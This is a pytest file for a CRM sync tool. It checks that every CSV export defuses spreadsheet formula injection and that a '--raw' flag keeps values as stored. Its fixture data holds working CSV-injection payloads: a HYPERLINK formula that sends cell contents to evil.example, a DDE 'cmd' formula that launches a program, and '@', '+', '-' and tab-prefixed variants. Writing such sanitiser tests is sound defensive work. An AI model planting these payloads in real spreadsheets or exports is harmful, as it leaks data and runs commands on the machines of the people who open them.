"""Every CSV a run writes opens in a spreadsheet without running anything (issue 12, #4).

The data carries the five formula openings ops have been hit by, one of them behind a tab
that the standardiser trims away; each CSV crm-hub writes is parsed back and no cell may
start a formula. ``--raw`` writes the values as stored.
"""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
import yaml

from crmhub.cli import main

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"open")'
CMD = "=cmd|' /C calc'!A0"
PEOPLE = [
    # id, name, company, mail, phone, city
    (HYPERLINK, HYPERLINK, CMD, "zhao.wei@example.cn", "+8613800138000", "+cmd"),
    ("2", "@SUM(1+1)*cmd|' /C calc'!A0", "-1+1", "anna@example.de", "+49 30 1234567", "\t=1+1"),
    ("+cmd", "-1+1", "@SUM(A1)", "", "", CMD),  # no e-mail: quarantined
    ("@SUM(A1)", "\t=1+1", HYPERLINK, "", "+cmd", "-1+1"),  # no e-mail: quarantined
]
MAPPING = {
    "version": 1,
    "source_id": "id",
    "fields": {
        "full_name": "name",
        "company": "company",
        "email": {"from": "mail", "required": True},
        "phone": "phone",
        "city": "city",
    },
}


def is_formula(cell: str) -> bool:
    """What a spreadsheet runs: a cell opening with = + - @ tab or CR that is not a number."""
    if cell[:1] not in ("=", "+", "-", "@", "\t", "\r"):
        return False
    try:
        float(cell)
    except ValueError:
        return True
    return False


def cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8", newline="") as f:
        return [cell for row in csv.reader(f) for cell in row]


@pytest.fixture
def hub(tmp_path: Path) -> Path:
    with (tmp_path / "people.csv").open("w", encoding="utf-8", newline="") as f:
        writer = csv.writer(f)
        writer.writerow(["id", "name", "company", "mail", "phone", "city"])
        writer.writerows(PEOPLE)
    (tmp_path / "people.yaml").write_text(yaml.safe_dump(MAPPING), encoding="utf-8")
    source = {"name": "crm", "kind": "spreadsheet", "mapping": "people.yaml"}
    config = {
        "store": f"sqlite:///{tmp_path / 'hub.db'}",
        "sources": [{**source, "connection": {"path": "people.csv"}}],
    }
    path = tmp_path / "hub.yaml"
    path.write_text(yaml.safe_dump(config), encoding="utf-8")
    return path


def written_csvs(hub: Path, out: Path, *extra: str) -> list[Path]:
    """Run everything that writes a CSV; return the files."""
    c = ("-c", str(hub))
    people, mapping = str(hub.parent / "people.csv"), str(hub.parent / "people.yaml")
    assert main(["sync", *c]) == 0
    commands = [
        ["golden", "export", "-f", "csv", "-o", str(out / "golden.csv"), *c],
        ["golden", "export", "--provenance", "-o", str(out / "provenance.csv"), *c],
        ["quarantine", "export", "-o", str(out / "quarantine.csv"), *c],
        ["quarantine", "export", "--unmask", "-o", str(out / "quarantine-unmasked.csv"), *c],
        ["dedupe", people, "-m", mapping, "-o", str(out / "dedupe.csv")],
    ]
    for command in commands:
        assert main([*command, *extra]) == 0, command
    return sorted(out.glob("*.csv"))


def test_no_csv_of_a_run_holds_an_active_formula(
    hub: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "out"
    out.mkdir()
    files = written_csvs(hub, out)
    assert [f.name for f in files] == [
        "dedupe.csv",
        "dedupe.rejects.csv",
        "golden.csv",
        "provenance.csv",
        "quarantine-unmasked.csv",
        "quarantine.csv",
    ]
    for path in files:
        active = [cell for cell in cells(path) if is_formula(cell)]
        assert active == [], path.name
    golden = cells(out / "golden.csv")
    assert "'=1+1" in golden  # "\t=1+1" was trimmed, then made inert
    assert {"'-1+1", f"'{CMD}", "'+cmd", "+8613800138000"} <= set(golden)
    assert f"'{HYPERLINK}" in cells(out / "dedupe.csv")
    assert {"'+cmd", "'@SUM(A1)"} <= set(cells(out / "dedupe.rejects.csv"))
    assert {"'+cmd", "'@SUM(A1)"} <= set(cells(out / "quarantine-unmasked.csv"))


def test_raw_writes_the_values_as_stored(
    hub: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "out"
    out.mkdir()
    written_csvs(hub, out, "--raw")
    golden = cells(out / "golden.csv")
    assert {"=1+1", "-1+1", CMD, "+cmd"} <= set(golden)
    assert HYPERLINK in cells(out / "dedupe.csv")
    assert {"+cmd", "@SUM(A1)"} <= set(cells(out / "quarantine-unmasked.csv"))
